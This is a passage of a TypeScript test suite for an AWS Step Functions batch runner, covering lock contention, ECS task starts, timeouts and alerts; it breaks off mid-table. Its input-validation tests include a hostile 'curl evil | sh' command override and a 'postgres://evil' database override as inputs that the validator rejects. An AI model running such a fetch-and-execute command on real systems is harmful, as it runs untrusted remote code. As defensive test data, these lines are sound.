import { weighRun } from '../../handlers/lib/pause-on-failure';
import { DeleteItemCommand, GetItemCommand, PutItemCommand } from '@aws-sdk/client-dynamodb';
import type { EmbeddedDynamoDb } from '../../local/lock-store';
import { dependencyInputFrom } from '../../state-machines/run-events';
import { ServiceError } from '../../local/task-resources';
import { capacityFailure, FAMILY, newTaskArn } from '../fixtures/ecs-payloads';
import {
  executionArn,
  holdLock,
  LOCK_TABLE,
  runScenario,
  SCHEDULED_INPUT,
  type ScenarioResult,
  scheduledInput,
  ScriptedAws,
  TOPIC_ARN,
  WATCHER_ARN,
  useScenarioWorld,
} from '../support/asl-harness';
import { dilateTimers } from '../support/time-dilation';

/**
 * Path-by-path scenarios of state-machines/batch-runner.asl.json, executed by aws-local-stepfunctions
 * with the lock in dynalite (real conditional writes) and ECS/SFN/SNS answered with realistic payloads.
 */

const world = useScenarioWorld();

const callsTo = (r: ScenarioResult, state: string) => r.calls.filter((c) => c.state === state);
const contextEnvironmentOf = (r: ScenarioResult) =>
  (
    callsTo(r, 'StartBatchTask')[0].params.Overrides.ContainerOverrides[0].Environment as Array<{ Name: string }>
  ).filter((e) => e.Name.startsWith('BATCH_RUNNER_'));
const alerts = () => world.aws.published.filter((p) => p.MessageAttributes.severity.StringValue === 'alert');
const failureAlerts = (r: ScenarioResult) => r.statesEntered.filter((s) => s === 'PublishFailureAlert');

describe('happy path', () => {
  test('scheduled run: slot, lock, running-task checks, start, watch, release, lifecycle events, in 23 states and 5 calls before RunTask', async () => {
    const r = await runScenario(world.db, world.aws, { name: 'HappyPath' });

    expect(r.status).toBe('SUCCEEDED');
    expect(r.output).toMatchObject({
      outcome: 'succeeded',
      task: { exitCode: 0, taskArn: world.aws.startedTasks[0] },
      lockRelease: { status: 'released' },
    });
    expect(r.output.task.logUrl).toContain('log-group/$252Fecs$252Fmissing-images');
    expect(r.statesEntered).toEqual([
      'RouteInput',
      'PrepareScheduledRun',
      'ClaimScheduledSlot',
      'AcquireLock',
      'CheckRunningTasks',
      'IsBatchAlreadyRunning',
      'CheckStoppingTasks',
      'AreAnyTasksStopping',
      'HasAttemptBegun',
      'BeginAttemptsForSlot',
      'NameTheAttempt',
      'ComposeTaskOverrides',
      'ComposeOverrides',
      'WhereToStartTask',
      'StartBatchTask',
      'IsTaskStarted',
      'PublishStartedEvent',
      'WaitForTaskToStop',
      'RecordSucceededAttempt',
      'ReleaseLock',
      'HasDurationGuards',
      'PublishSucceededEvent',
      'RunSucceeded',
    ]);
    // The slot claim, the lock, the two running-task checks (desired RUNNING; asked to stop), then RunTask.
    expect(r.calls.map((c) => c.state).indexOf('StartBatchTask')).toBe(4);
    expect(callsTo(r, 'CheckStoppingTasks')[0].params).toMatchObject({ Family: FAMILY, DesiredStatus: 'STOPPED' });
    expect(callsTo(r, 'AcquireLock')[0].params).toMatchObject({
      TableName: LOCK_TABLE,
      ConditionExpression: 'attribute_not_exists(#batch)',
      Item: { batch: { S: FAMILY }, owner: { S: r.executionArn }, trigger: { S: 'schedule' } },
    });
    expect(callsTo(r, 'CheckRunningTasks')[0].params).toMatchObject({ Family: FAMILY, DesiredStatus: 'RUNNING' });
    expect(callsTo(r, 'StartBatchTask')[0].params).toMatchObject({
      Group: `batch-runner:${FAMILY}`,
      Count: 1,
      Overrides: {},
    });
    expect(callsTo(r, 'ReleaseLock')[0].params).toMatchObject({
      ConditionExpression: '#owner = :me',
      ExpressionAttributeValues: { ':me': { S: r.executionArn } },
    });
    expect(r.lockItem).toBeUndefined();
    expect(world.aws.published).toEqual([]);
  });

  test('a scheduled input carrying pauseAfter (pauseAfterConsecutiveFailures) runs as scheduled; its output outcome is what the reconciler weighs', async () => {
    const r = await runScenario(world.db, world.aws, {
      input: { ...scheduledInput('2026-12-05T21:00:00Z'), pauseAfter: 3 },
    });

    expect(r.status).toBe('SUCCEEDED');
    expect(r.statesEntered.slice(0, 2)).toEqual(['RouteInput', 'PrepareScheduledRun']);
    expect(
      weighRun({
        status: 'SUCCEEDED',
        input: JSON.stringify({ ...scheduledInput(), pauseAfter: 3 }),
        output: JSON.stringify(r.output),
      }),
    ).toBe('success');
  });

  test('console start with {} goes through the validator and runs with trigger "console"', async () => {
    const r = await runScenario(world.db, world.aws, { input: {} });

    expect(r.status).toBe('SUCCEEDED');
    expect(r.statesEntered.slice(0, 5)).toEqual([
      'RouteInput',
      'ValidateManualInput',
      'IsManualInputValid',
      'DoesRunStandForSlot',
      'AcquireLock',
    ]);
    expect(callsTo(r, 'AcquireLock')[0].params.Item.trigger).toEqual({ S: 'console' });
  });

  test('manual input with an allowed override reaches RunTask as a container override', async () => {
    const r = await runScenario(world.db, world.aws, {
      input: {
        trigger: 'cli',
        reason: 're-run after fix',
        requestedBy: 'ops@example.com',
        overrides: { environment: { DRY_RUN: 'true' } },
      },
    });

    expect(r.status).toBe('SUCCEEDED');
    // The operator's variable, after the run's context (test/state-machines/batch-runner.attempts.test.ts).
    expect(callsTo(r, 'StartBatchTask')[0].params.Overrides.ContainerOverrides).toEqual([
      {
        Name: 'app',
        Environment: [...contextEnvironmentOf(r), { Name: 'DRY_RUN', Value: 'true' }],
      },
    ]);
    expect(callsTo(r, 'AcquireLock')[0].params.Item).toMatchObject({
      requestedBy: { S: 'ops@example.com' },
      reason: { S: 're-run after fix' },
    });
  });

  test('a non-zero sidecar does not fail the run: only the batch container counts', async () => {
    world.aws.watch = { exitCode: 0, sidecarExitCode: 137 };
    const r = await runScenario(world.db, world.aws);

    expect(r.status).toBe('SUCCEEDED');
    expect(r.output.task.containers).toEqual([
      { name: 'app', exitCode: 0, reason: null },
      { name: 'log-router', exitCode: 137, reason: null },
    ]);
  });
});

describe('lock contention', () => {
  test('lock held by a live execution: skipped with the holder named, lock untouched, a notice (not an alert)', async () => {
    const holder = executionArn('NightlyRunStillGoing');
    world.aws.executions.set(holder, 'RUNNING');
    await holdLock(world.db, holder);

    const r = await runScenario(world.db, world.aws);

    expect(r.status).toBe('SUCCEEDED');
    expect(r.output).toMatchObject({ outcome: 'skipped', lockHolder: holder });
    expect(r.output.reason).toContain(holder);
    expect(callsTo(r, 'StartBatchTask')).toHaveLength(0);
    expect(r.lockItem?.owner.S).toBe(holder);
    expect(world.aws.published).toHaveLength(1);
    expect(world.aws.published[0]).toMatchObject({
      TopicArn: TOPIC_ARN,
      MessageAttributes: { severity: { StringValue: 'notice' }, outcome: { StringValue: 'skipped' } },
    });
    expect(world.aws.published[0].Message).toContain(holder);
  });

  test('skipNotification "alert" publishes the skip at alert severity; "none" publishes nothing', async () => {
    const holder = executionArn('Holder');
    world.aws.executions.set(holder, 'RUNNING');
    await holdLock(world.db, holder);

    await runScenario(world.db, world.aws, { batch: { skipNotification: 'alert' } });
    const quiet = await runScenario(world.db, world.aws, { batch: { skipNotification: 'none' } });

    expect(world.aws.published.map((p) => p.MessageAttributes.severity.StringValue)).toEqual(['alert']);
    expect(quiet.output.outcome).toBe('skipped');
  });

  test.each(['FAILED', 'TIMED_OUT', 'ABORTED', 'SUCCEEDED'])(
    'lock held by a %s execution is settled by the reconciler (no task may run), released, then taken, and the batch runs',
    async (status) => {
      const stale = executionArn(`Stale${status}`);
      world.aws.executions.set(stale, status);
      await holdLock(world.db, stale);

      const r = await runScenario(world.db, world.aws);

      expect(r.status).toBe('SUCCEEDED');
      expect(callsTo(r, 'SettleStaleLock')[0].params.Payload).toMatchObject({
        action: 'settle',
        executionArn: r.executionArn,
      });
      expect(world.aws.reconcilerAnswers[0]).toMatchObject({ lock: 'released', taskMayStillRun: false });
      // Taken with the ordinary conditional put after the reconciler let the stale owner's lock go.
      expect(callsTo(r, 'AcquireLock')).toHaveLength(2);
      expect(callsTo(r, 'AcquireLock')[1].error).toBeUndefined();
      expect(world.aws.startedTasks).toHaveLength(1);
      expect(r.lockItem).toBeUndefined();
    },
  );

  test('lock held by an execution that no longer exists (history expired) is reclaimed', async () => {
    await holdLock(world.db, executionArn('DeletedLongAgo'));

    const r = await runScenario(world.db, world.aws);

    expect(callsTo(r, 'CheckLockHolderLiveness')[0].error?.name).toBe('Sfn.ExecutionDoesNotExistException');
    expect(r.output.outcome).toBe('succeeded');
  });

  test('lock whose owner is no execution ARN (an item written by hand) is reclaimed like a stale one', async () => {
    await holdLock(world.db, 'alice was here');

    const r = await runScenario(world.db, world.aws);

    expect(callsTo(r, 'CheckLockHolderLiveness')[0].error?.name).toBe('Sfn.InvalidArnException');
    expect(r.output.outcome).toBe('succeeded');
    expect(world.aws.startedTasks).toHaveLength(1);
  });

  test('two reclaimers race for one stale lock: exactly one runs, the other skips naming the winner', async () => {
    const stale = executionArn('Crashed');
    world.aws.executions.set(stale, 'FAILED');
    await holdLock(world.db, stale);
    world.aws.whileTaskRuns = () => new Promise((resolve) => setTimeout(resolve, 300));

    const [a, b] = await Promise.all([
      runScenario(world.db, world.aws, { name: 'ReclaimerA' }),
      runScenario(world.db, world.aws, { name: 'ReclaimerB' }),
    ]);

    const outcomes = [a.output.outcome, b.output.outcome].sort();
    expect(outcomes).toEqual(['skipped', 'succeeded']);
    expect(world.aws.startedTasks).toHaveLength(1);
    const [winner, loser] = a.output.outcome === 'succeeded' ? [a, b] : [b, a];
    expect(loser.output.lockHolder).toBe(winner.executionArn);
    // Both settled the same stale owner; the conditional put let only one of them take the lock.
    expect(
      callsTo(loser, 'AcquireLock').some((c) => c.error?.name === 'DynamoDB.ConditionalCheckFailedException'),
    ).toBe(true);
    expect(winner.lockItem).toBeUndefined();
  });

  test('an AcquireLock whose first write landed but whose answer was lost proceeds as the owner', async () => {
    // The put landed before the (retried) attempt: the item already names this very execution.
    await holdLock(world.db, executionArn('AnswerLost'));

    const r = await runScenario(world.db, world.aws, { name: 'AnswerLost' });

    expect(r.statesEntered.slice(3, 7)).toEqual([
      'AcquireLock',
      'ReadLockHolder',
      'EvaluateLockHolder',
      'CheckRunningTasks',
    ]);
    expect(callsTo(r, 'CheckLockHolderLiveness')).toHaveLength(0);
    expect(r.output.outcome).toBe('succeeded');
    expect(r.lockItem).toBeUndefined();
  });
});

describe('running-task check', () => {
  test('a task of the family asked to stop but still inside its stop grace: skipped, nothing started, lock released', async () => {
    const stopping = newTaskArn();
    world.aws.listTasksAnswers = [[], [stopping]];
    world.aws.describeCallsUntilStopped = Number.POSITIVE_INFINITY; // ECS still reports it RUNNING

    const r = await runScenario(world.db, world.aws);

    expect(r.output).toMatchObject({ outcome: 'skipped', stoppingTaskArns: [stopping] });
    expect(r.output.reason).toContain('was asked to stop and has not stopped yet');
    expect(callsTo(r, 'StartBatchTask')).toHaveLength(0);
    expect(callsTo(r, 'DescribeStoppingTasks')[0].params).toMatchObject({ Tasks: [stopping] });
    expect(r.lockItem).toBeUndefined();
  });

  test('of two tasks asked to stop, one STOPPED and one still RUNNING: skipped naming both, nothing started', async () => {
    const [stopped, stillStopping] = [newTaskArn(), newTaskArn()];
    world.aws.listTasksAnswers = [[], [stopped, stillStopping]];
    world.aws.stillRunning.add(stillStopping);

    const r = await runScenario(world.db, world.aws);

    expect(r.output).toMatchObject({ outcome: 'skipped', stoppingTaskArns: [stopped, stillStopping] });
    expect(world.aws.startedTasks).toHaveLength(0);
  });

  test('a task asked to stop, described without lastStatus, is not taken for STOPPED: skipped, nothing started', async () => {
    world.aws.listTasksAnswers = [[], [newTaskArn()]];
    world.aws.describeOmitsLastStatus = true;

    const r = await runScenario(world.db, world.aws);

    expect([r.status, r.output?.outcome]).toEqual(['SUCCEEDED', 'skipped']);
    expect(world.aws.startedTasks).toHaveLength(0);
  });

  test('tasks of the family stopped lately and reported STOPPED: the batch runs', async () => {
    world.aws.listTasksAnswers = [[], [newTaskArn(), newTaskArn()]];

    const r = await runScenario(world.db, world.aws);

    expect(r.statesEntered).toEqual(expect.arrayContaining(['LookAtEachStoppingTask', 'IsAnyTaskStillStopping']));
    expect(r.output.outcome).toBe('succeeded');
    expect(world.aws.startedTasks).toHaveLength(1);
  });

  test('a stopped task ECS no longer knows is not running: the batch runs', async () => {
    const gone = newTaskArn();
    world.aws.unknownToEcs.add(gone);
    world.aws.listTasksAnswers = [[], [gone]];

    const r = await runScenario(world.db, world.aws);

    expect(r.statesEntered).toContain('WereStoppingTasksFound');
    expect(r.statesEntered).not.toContain('LookAtEachStoppingTask');
    expect(r.output.outcome).toBe('succeeded');
  });

  test('a task of the family started by hand: skipped, lock released, its ARN reported, nothing started', async () => {
    const manual = newTaskArn();
    world.aws.listTasksAnswers = [[manual]];

    const r = await runScenario(world.db, world.aws);

    expect(r.output).toMatchObject({ outcome: 'skipped', runningTaskArns: [manual] });
    expect(callsTo(r, 'StartBatchTask')).toHaveLength(0);
    expect(callsTo(r, 'ReleaseLockAfterSkip')).toHaveLength(1);
    expect(r.lockItem).toBeUndefined();
    expect(world.aws.published[0].Message).toContain(manual);
  });
});

describe('starting the task', () => {
  test('capacity failure (failures[] RESOURCE:MEMORY) then success: retried after a backoff', async () => {
    world.aws.runTaskAnswers = [capacityFailure('RESOURCE:MEMORY'), 'start'];

    const r = await runScenario(world.db, world.aws);

    expect(r.status).toBe('SUCCEEDED');
    const starts = callsTo(r, 'StartBatchTask');
    expect(starts).toHaveLength(2);
    expect(r.statesEntered).toContain('BackOffBeforeRetryingStart');
    // A new attempt gets a new idempotency token; a Retry of the same attempt would reuse it.
    expect(starts[0].params.ClientToken).not.toBe(starts[1].params.ClientToken);
  });

  test('capacity failures exhausted: could_not_start, one alert, lock released', async () => {
    world.aws.runTaskAnswers = [
      capacityFailure(),
      capacityFailure(),
      capacityFailure(),
      capacityFailure('RESOURCE:CPU'),
    ];

    const r = await runScenario(world.db, world.aws);

    expect(r.status).toBe('FAILED');
    expect(r.error).toBe('BatchRunner.CouldNotStart');
    expect(r.cause).toContain('capacity failures retried: 4');
    expect(r.cause).toContain('RESOURCE:CPU');
    expect(callsTo(r, 'StartBatchTask')).toHaveLength(4);
    expect(r.lockItem).toBeUndefined();
    expect(alerts()).toHaveLength(1);
    expect(alerts()[0].MessageAttributes.outcome.StringValue).toBe('could_not_start');
  });

  test('RunTask answer lost (server error after retries): the reconciler looks the task up in ECS before the lock goes', async () => {
    const r = await runScenario(world.db, world.aws, {
      inject: (call) =>
        call.state === 'StartBatchTask'
          ? Object.assign(new Error('Service unavailable'), { name: 'Ecs.ServerException' })
          : undefined,
    });
    expect(r.error).toBe('BatchRunner.StartAnswerLost');
    expect(r.statesEntered).toContain('NoteStartMayHaveRun');
    expect(world.aws.reconcilerCalls.at(-1)).toMatchObject({ action: 'finish', executionArn: r.executionArn });
    // ECS lists no task of this execution: nothing may run, so the lock is released and the alert says so.
    expect(alerts()[0].Message).toContain('Task may still run: false');
    expect(alerts()[0].Message).not.toContain('ECS did not start the task');
    expect(r.lockItem).toBeUndefined();
  });

  test('RunTask times out without an answer: the task may have started, so it is treated as an answer lost', async () => {
    const r = await runScenario(world.db, world.aws, {
      inject: (call) =>
        call.state === 'StartBatchTask' ? Object.assign(new Error('no answer'), { name: 'States.Timeout' }) : undefined,
    });
    expect(r.error).toBe('BatchRunner.StartAnswerLost');
    expect(r.output).toBeUndefined();
    // The reconciler looked for a task of this execution before the lock went.
    expect(world.aws.reconcilerCalls.at(-1)).toMatchObject({ action: 'finish', executionArn: r.executionArn });
    expect(r.lockItem).toBeUndefined();
    expect(alerts()).toHaveLength(1);
    expect(alerts()[0].MessageAttributes.outcome.StringValue).toBe('could_not_start');
  });

  test('RunTask answer lost but ECS started the task: it is found by its tags and stopped before the lock is released', async () => {
    let started: string | undefined;
    world.aws.describeCallsUntilStopped = 2; // RUNNING when first looked up, STOPPED after the reconciler's stop
    const r = await runScenario(world.db, world.aws, {
      inject: (call) => {
        if (call.state !== 'StartBatchTask') return undefined;
        // The call takes effect; only its answer is lost.
        started ??= newTaskArn();
        world.aws.taskStartedBy.set(started, 'LostAnswer');
        world.aws.listTasksAnswers = [[started]];
        return Object.assign(new Error('Service unavailable'), { name: 'Ecs.ServerException' });
      },
      name: 'LostAnswer',
    });
    expect(r.error).toBe('BatchRunner.StartAnswerLost');
    expect(world.aws.stopRequests.map((s) => s.task)).toContain(started);
    expect(world.aws.stopRequests.find((s) => s.task === started)?.reason).toContain('is ending its run');
    expect(r.lockItem).toBeUndefined();
    expect(alerts()).toHaveLength(1);
  });

  test('the watcher is briefly unavailable: the wait is retried, the batch is not stopped', async () => {
    const r = await runScenario(world.db, world.aws, {
      inject: (call, attempt) =>
        call.state === 'WaitForTaskToStop' && attempt < 2
          ? Object.assign(new Error('Rate exceeded'), { name: 'BatchRunner.WatcherUnavailable' })
          : undefined,
    });
    expect(r.output.outcome).toBe('succeeded');
    expect(world.aws.stopRequests).toEqual([]);
  });

  test('RunTask API throttled: retried by the state, then runs', async () => {
    // ECS models no ThrottlingException: an SDK integration reports an unmodeled error as
    // <Service>.<Service>Exception (Step Functions developer guide, AWS SDK service integrations).
    const r = await runScenario(world.db, world.aws, {
      inject: (call, attempt) =>
        call.state === 'StartBatchTask' && attempt < 2
          ? Object.assign(new Error('Rate exceeded'), { name: 'Ecs.EcsException' })
          : undefined,
    });
    expect(callsTo(r, 'StartBatchTask').map((c) => c.error?.name)).toEqual([
      'Ecs.EcsException',
      'Ecs.EcsException',
      undefined,
    ]);
    expect(r.output.outcome).toBe('succeeded');
  });
});

describe('answers that leave out what the ECS model makes optional', () => {
  test('a stopped task described without lastStatus is not taken for STOPPED: timed_out, the task may still run, one alert, the lock kept', async () => {
    world.aws.watch = 'deadline';
    world.aws.describeOmitsLastStatus = true;
    const r = await runScenario(world.db, world.aws);

    expect(r.status).toBe('FAILED');
    expect(r.error).toBe('BatchRunner.TimedOut');
    expect(r.statesEntered).toContain('NoteTaskMayStillRun');
    expect(r.statesEntered).not.toContain('RecordStoppedTask');
    expect(alerts()).toHaveLength(1);
    expect(alerts()[0].Message).toContain('Task may still run: true');
    // Nothing says the task stopped, so its lock is not released beside it.
    expect(r.lockItem?.owner.S).toBe(r.executionArn);
  });
});

describe('failures and the hard timeout', () => {
  test('non-zero exit: failed with exit code and stop reason, lock released, one alert with the log link', async () => {
    world.aws.watch = { exitCode: 3 };

    const r = await runScenario(world.db, world.aws);

    expect(r.status).toBe('FAILED');
    expect(r.error).toBe('BatchRunner.TaskFailed');
    expect(r.lockItem).toBeUndefined();
    expect(alerts()).toHaveLength(1);
    const alert = alerts()[0];
    expect(alert.Subject).toBe('[batch-runner] missing-images failed');
    expect(alert.Message).toContain('"exitCode":3');
    expect(alert.Message).toContain('Essential container in task exited');
    expect(alert.Message).toContain(world.aws.startedTasks[0]);
    expect(alert.Message).toContain('log-events/batch$252Fapp$252F');
    expect(alert.Message).toContain(`#/v2/executions/details/${r.executionArn}`);
    expect(alert.MessageAttributes).toMatchObject({
      batch: { StringValue: FAMILY },
      trigger: { StringValue: 'schedule' },
    });
  });

  test('hard timeout: StopTask on its own task ARN with a reason, lock released only after STOPPED, one "timed out" alert', async () => {
    world.aws.watch = 'hang';
    world.aws.describeCallsUntilStopped = 2;

    const r = await runScenario(world.db, world.aws, {
      substitutions: { WaitChunkSeconds: '1', WaitChunkCount: '2', HardTimeoutSeconds: '2' },
    });

    expect(r.status).toBe('FAILED');
    expect(r.error).toBe('BatchRunner.TimedOut');
    // Two chunks, then one more look at the boundary after the last: the watcher answers the task's own
    // outcome or DeadlineReached; here it cannot answer, so the chunk count decides.
    expect(r.statesEntered.filter((s) => s === 'WaitForTaskToStop')).toHaveLength(3);
    expect(world.aws.stopRequests).toEqual([
      {
        task: world.aws.startedTasks[0],
        reason: expect.stringMatching(/^batch-runner: hard timeout of 2 s reached \(execution /),
      },
    ]);
    const order = r.calls.map((c) => c.state);
    const stoppedConfirmed = order.lastIndexOf('ConfirmTaskStopped');
    expect(callsTo(r, 'ConfirmTaskStopped').at(-1)?.result).toMatchObject({ Tasks: [{ LastStatus: 'STOPPED' }] });
    expect(order.indexOf('ReleaseLockAfterFailure')).toBeGreaterThan(stoppedConfirmed);
    expect(r.lockItem).toBeUndefined();
    expect(alerts()).toHaveLength(1);
    expect(alerts()[0].Subject).toBe('[batch-runner] missing-images timed_out');
    expect(alerts()[0].Message).toContain('Task may still run: false');
    // The exit code of the stopped container (143 after SIGTERM) is in the details.
    expect(alerts()[0].Message).toContain('"ExitCode":143');
  });

  test('StopTask refused to the runner at the deadline: no stop window waited out; the release step`s reconciler stops the task, the lock goes once it is STOPPED', async () => {
    // The task hangs, and until someone asks ECS to stop it, ECS describes it RUNNING.
    world.aws.watch = 'hang';
    const r = await runScenario(world.db, world.aws, {
      substitutions: { WaitChunkSeconds: '1', WaitChunkCount: '1', StopConfirmAttempts: '3' },
      inject: (call) =>
        call.state === 'StopBatchTask'
          ? new ServiceError('Ecs.AccessDeniedException', 'not authorized to perform: ecs:StopTask')
          : undefined,
    });

    expect(r.error).toBe('BatchRunner.TimedOut');
    // Nothing was asked to stop, so the runner does not look for a stop that cannot come.
    expect(callsTo(r, 'ConfirmTaskStopped')).toEqual([]);
    // The reconciler's own StopTask (its role, not the state machine's) stops it, and it checks STOPPED.
    expect(world.aws.stopRequests.map((s) => s.task)).toEqual([world.aws.startedTasks[0]]);
    expect(world.aws.reconcilerAnswers.at(-1)).toMatchObject({ status: 'released', taskMayStillRun: false });
    expect(r.lockItem).toBeUndefined();
    expect(alerts()).toHaveLength(1);
    expect(alerts()[0].Message).toContain('Task may still run: false');
  });

  test('the stopped task cannot be described (DescribeTasks refused): the lock stays held naming the task, the alert says it may still run', async () => {
    world.aws.watch = 'hang';
    world.aws.describeCallsUntilStopped = Number.POSITIVE_INFINITY;
    let looks = 0;
    const r = await runScenario(world.db, world.aws, {
      substitutions: { WaitChunkSeconds: '1', WaitChunkCount: '1', StopConfirmAttempts: '3' },
      // The first look works (the task is still stopping); the next is refused.
      inject: (call) =>
        call.state === 'ConfirmTaskStopped' && ++looks === 2
          ? new ServiceError('Ecs.AccessDeniedException', 'not authorized to perform: ecs:DescribeTasks')
          : undefined,
    });

    expect(r.error).toBe('BatchRunner.TimedOut');
    expect(callsTo(r, 'ConfirmTaskStopped')).toHaveLength(2);
    expect(r.lockItem?.owner.S).toBe(r.executionArn);
    expect(r.lockItem?.pendingStopTaskArns.SS).toEqual([world.aws.startedTasks[0]]);
    expect(alerts()).toHaveLength(1);
    expect(alerts()[0].Message).toContain('Task may still run: true');
  });

  test('STOPPED never confirmed: bounded checks, the lock stays held naming the task, the alert says the task may still run', async () => {
    world.aws.watch = 'hang';
    world.aws.describeCallsUntilStopped = Number.POSITIVE_INFINITY;

    const r = await runScenario(world.db, world.aws, {
      substitutions: { WaitChunkSeconds: '1', WaitChunkCount: '1', StopConfirmAttempts: '3' },
    });

    expect(r.error).toBe('BatchRunner.TimedOut');
    expect(callsTo(r, 'ConfirmTaskStopped')).toHaveLength(4);
    // Each look comes one StopConfirmIntervalSeconds after the stop request or the previous look: the task
    // gets the whole window (4 intervals) to stop before the runner gives up on it.
    expect(r.statesEntered.filter((s) => s === 'WaitForStopToTakeEffect')).toHaveLength(4);
    expect(r.statesEntered).toContain('NoteTaskMayStillRun');
    // Never released beside a task that may still run: the next start, the cleanup or the reconciler
    // releases it once ECS reports the task STOPPED.
    expect(r.lockItem?.owner.S).toBe(r.executionArn);
    expect(r.lockItem?.pendingStopTaskArns.SS).toEqual([world.aws.startedTasks[0]]);
    expect(alerts()).toHaveLength(1);
    expect(alerts()[0].Message).toContain('Task may still run: true');
    expect(alerts()[0].Message).toContain('Lock: kept until the task is confirmed STOPPED');
  });
});

describe('a wait that times out without a started task', () => {
  test('RunTask started nothing and the watcher never answered: an internal error, no StopTask, lock released, one alert', async () => {
    world.aws.runTaskAnswers = [capacityFailure()];
    world.aws.watch = 'silent';

    const r = await runScenario(world.db, world.aws, { substitutions: { WaitChunkSeconds: '1' } });

    expect(r.error).toBe('BatchRunner.InternalError');
    expect(r.statesEntered).toEqual(
      expect.arrayContaining(['CountWaitChunk', 'HasHardTimeoutPassed', 'RecordWatchError']),
    );
    expect(world.aws.stopRequests).toEqual([]);
    expect(r.lockItem).toBeUndefined();
    expect(alerts()).toHaveLength(1);
  });
});

describe('acquiring the lock', () => {
  /** The lock's conditional put takes effect, and then no answer ever comes back, on any attempt. */
  class PutTakesEffectAnswerLost extends ScriptedAws {
    services(dynamodb: EmbeddedDynamoDb) {
      const s = super.services(dynamodb);
      const send = s.dynamodb.send.bind(s.dynamodb) as (command: unknown) => Promise<unknown>;
      let puts = 0;
      const isLockPut = (command: unknown) =>
        command instanceof PutItemCommand && command.input.Item?.batch?.S === FAMILY;
      return {
        ...s,
        dynamodb: Object.assign(Object.create(s.dynamodb), {
          send: async (command: unknown) => {
            if (!isLockPut(command)) return send(command);
            if ((puts += 1) === 1) await send(command);
            return new Promise(() => undefined);
          },
        }),
      };
    }
  }

  test('the put took effect but its answers are lost: the run ends failed and releases the lock it may hold', async () => {
    const restore = dilateTimers(1000);
    try {
      world.aws = new PutTakesEffectAnswerLost();
      const r = await runScenario(world.db, world.aws);

      // The first attempt and its 5 retries of States.Timeout, each abandoned at the state's TimeoutSeconds.
      expect(callsTo(r, 'AcquireLock')).toHaveLength(6);
      expect([r.status, r.error]).toEqual(['FAILED', 'BatchRunner.InternalError']);
      expect(world.aws.startedTasks).toEqual([]);
      // Not left to a failed execution until the next start reclaims it.
      expect(r.lockItem).toBeUndefined();
      expect(alerts()).toHaveLength(1);
    } finally {
      restore();
    }
  });
});

describe('releasing the lock', () => {
  test('release fails transiently: retried, then released', async () => {
    const r = await runScenario(world.db, world.aws, {
      inject: (call, attempt) =>
        call.state === 'ReleaseLock' && attempt < 2
          ? Object.assign(new Error('Throughput exceeded'), { name: 'DynamoDB.ProvisionedThroughputExceededException' })
          : undefined,
    });
    expect(callsTo(r, 'ReleaseLock')).toHaveLength(3);
    expect(r.output).toMatchObject({ outcome: 'succeeded', lockRelease: { status: 'released' } });
    expect(r.lockItem).toBeUndefined();
  });

  test('release finds another owner: reported as lock lost, the other owner keeps its lock', async () => {
    const intruder = executionArn('ForcedUnlockThenStarted');
    world.aws.whileTaskRuns = async () => holdLock(world.db, intruder);

    const r = await runScenario(world.db, world.aws);

    expect(r.status).toBe('FAILED');
    expect(r.error).toBe('BatchRunner.LockLost');
    expect(r.lockItem?.owner.S).toBe(intruder);
    expect(alerts()).toHaveLength(1);
    expect(alerts()[0].Message).toContain('may have overlapped');
    expect(alerts()[0].MessageAttributes.outcome.StringValue).toBe('failed');
  });
});

describe('lock lost while the task runs', () => {
  test('the watcher finds another owner: the runner stops its own task and alerts "lock lost"', async () => {
    world.aws.watch = 'lock-lost';
    world.aws.executions.set(executionArn('Intruder'), 'RUNNING');
    world.aws.whileTaskRuns = () => holdLock(world.db, executionArn('Intruder'));

    const r = await runScenario(world.db, world.aws);

    expect(r.error).toBe('BatchRunner.LockLost');
    expect(world.aws.stopRequests).toEqual([
      { task: world.aws.startedTasks[0], reason: expect.stringContaining('lock lost while running') },
    ]);
    expect(world.aws.reconcilerAnswers.at(-1)).toMatchObject({ status: 'not held by this execution' });
    expect(alerts()).toHaveLength(1);
    expect(alerts()[0].Message).toContain('Lock: not held by this execution');
    expect(r.lockItem?.owner.S).toBe(executionArn('Intruder'));
  });
});

describe('input', () => {
  test.each([
    ['unknown key', { reasn: 'typo' }, 'unknown key "reasn"'],
    [
      'override outside the allow-list',
      { overrides: { environment: { DATABASE_URL: 'postgres://evil' } } },
      'overrides.environment.DATABASE_URL is not allowed',
    ],
    [
      'command override on a batch that does not allow it',
      { overrides: { command: ['sh', '-c', 'curl evil | sh'] } },
      'overrides.command is not allowed',
    ],
    ['wrong type', { reason: 42 }, 'reason = 42 must be a non-empty string'],
    ['not an object', ['run'], 'input must be a JSON object'],
    [
      'schedule trigger forged with extra keys',
      { ...SCHEDULED_INPUT, overrides: { environment: { DRY_RUN: 'x' } } },
      'trigger = "schedule" is not allowed',
    ],
  ])(
    'invalid manual input (%s): fails before the lock, nothing started, one alert naming the problem',
    async (_label, input, message) => {
      const r = await runScenario(world.db, world.aws, { input });

      expect(r.status).toBe('FAILED');
      expect(r.error).toBe('BatchRunner.InvalidInput');
      expect(r.cause).toContain(message);
      expect(r.calls.map((c) => c.state)).toEqual([
        'ValidateManualInput',
        'RecordOwedAlert',
        'PublishFailureAlert',
        'MarkAlertDelivered',
        'PublishFailedEvent',
      ]);
      expect(r.lockItem).toBeUndefined();
      expect(alerts()).toHaveLength(1);
      expect(alerts()[0].MessageAttributes.outcome.StringValue).toBe('invalid_input');
    },
  );

  /** The scheduler's and a dependency rule's exact shapes, each broken in one way a hand-written input might. */
  const DEPENDENCY_INPUT = {
    trigger: 'dependency',
    scheduledTime: '2026-12-01T21:00:00Z',
    upstream: { batch: 'xml-articles', executionArn: executionArn('Upstream') },
  };
  test.each([
    ['schedule without scheduledTime', { trigger: 'schedule' }],
    ['schedule with a scheduledTime that is no timestamp', { ...SCHEDULED_INPUT, scheduledTime: 'yesterday' }],
    ['schedule with a reason', { ...SCHEDULED_INPUT, reason: 'rerun of last night' }],
    ['schedule with a requestedBy', { ...SCHEDULED_INPUT, requestedBy: 'alice' }],
    ['dependency without scheduledTime', { ...DEPENDENCY_INPUT, scheduledTime: undefined }],
    ['dependency with a scheduledTime that is no timestamp', { ...DEPENDENCY_INPUT, scheduledTime: 'today' }],
    ['dependency without upstream', { ...DEPENDENCY_INPUT, upstream: undefined }],
    [
      'dependency whose upstream batch is no string',
      { ...DEPENDENCY_INPUT, upstream: { ...DEPENDENCY_INPUT.upstream, batch: 7 } },
    ],
    ['dependency without the upstream execution', { ...DEPENDENCY_INPUT, upstream: { batch: 'xml-articles' } }],
    [
      'dependency whose upstream execution is no string',
